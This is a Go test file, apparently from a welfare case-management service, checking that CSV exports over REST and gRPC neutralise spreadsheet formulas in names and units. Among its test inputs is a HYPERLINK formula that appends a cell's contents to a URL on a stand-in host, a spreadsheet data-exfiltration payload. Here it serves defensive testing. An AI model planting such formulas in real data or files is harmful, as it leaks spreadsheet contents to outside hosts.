package server_test

import (
	"bytes"
	"encoding/csv"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"

	ppksv1 "github.com/opendinsos/ppks/gen/ppks/v1"
)

// Names and units that a spreadsheet would run as formulas come out of the export
// neutralised (a leading single quote), over REST and gRPC; the quantity, a number the
// service writes, is left as it is.
func TestExportNeutralisesFormulas(t *testing.T) {
	e := newEnv(t)
	// A name needs letters, and leading blanks are trimmed from names and units, so these
	// are the shapes that reach the file.
	names := []string{`=HYPERLINK("http://contoh.test/?d="&A1,"Siti")`, "+Siti+1", "-Siti-2+3", "@SUM(Siti)"}
	units := []string{"=1+1", "+1+1", "-2+3", "@SUM(1)"}
	for i, name := range names {
		b, err := e.cases.CreateBeneficiary(e.ctx, &ppksv1.CreateBeneficiaryRequest{RequestId: e.newUUID(),
			Beneficiary: &ppksv1.Beneficiary{FullName: name, Sex: ppksv1.Sex_SEX_FEMALE, KecamatanCode: ownKec}})
		if err != nil {
			t.Fatalf("create %q: %v", name, err)
		}
		c := e.openCase(b.GetBeneficiary().GetName(), "LANSIA_TELANTAR")
		if _, err := e.cases.CreateIntervention(e.ctx, &ppksv1.CreateInterventionRequest{Parent: c.GetName(), RequestId: e.newUUID(),
			Intervention: &ppksv1.Intervention{InterventionType: "PERMAKANAN", DeliveredOn: day(2024, 3, 1+i), Quantity: int32(10 + i), Unit: units[i]}}); err != nil {
			t.Fatalf("deliver: %v", err)
		}
	}
	check := func(via string, records [][]string) {
		t.Helper()
		if len(records) != 1+len(names) {
			t.Fatalf("%s: %d lines, want %d", via, len(records), 1+len(names))
		}
		col := func(h string) int { return slices.Index(records[0], h) }
		nameCol, unitCol, qtyCol := col("full_name"), col("unit"), col("quantity")
		var gotNames, gotUnits, gotQty []string
		for _, r := range records[1:] {
			gotNames, gotUnits, gotQty = append(gotNames, r[nameCol]), append(gotUnits, r[unitCol]), append(gotQty, r[qtyCol])
		}
		for i := range names {
			if !slices.Contains(gotNames, "'"+names[i]) {
				t.Errorf("%s: name %q not neutralised in %q", via, names[i], gotNames)
			}
			if !slices.Contains(gotUnits, "'"+units[i]) {
				t.Errorf("%s: unit %q not neutralised in %q", via, units[i], gotUnits)
			}
			if !slices.Contains(gotQty, itoa(10+i)) {
				t.Errorf("%s: quantity %d changed: %q", via, 10+i, gotQty)
			}
		}
	}

	req, err := http.NewRequestWithContext(e.ctx, "GET", e.url+"/v1/reports/2024/interventions:export", nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+e.users["kabid"].token)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Fatalf("export: HTTP %d", resp.StatusCode)
	}
	records, err := csv.NewReader(resp.Body).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	check("REST", records)

	st, err := e.reports("").ExportInterventions(e.ctx, &ppksv1.ExportInterventionsRequest{Parent: "reports/2024"}, e.callAs("kabid"))
	if err != nil {
		t.Fatal(err)
	}
	var raw bytes.Buffer
	for {
		m, err := st.Recv()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		raw.Write(m.GetData())
		raw.WriteByte('\n')
	}
	if records, err = csv.NewReader(strings.NewReader(raw.String())).ReadAll(); err != nil {
		t.Fatal(err)
	}
	check("gRPC", records)
}
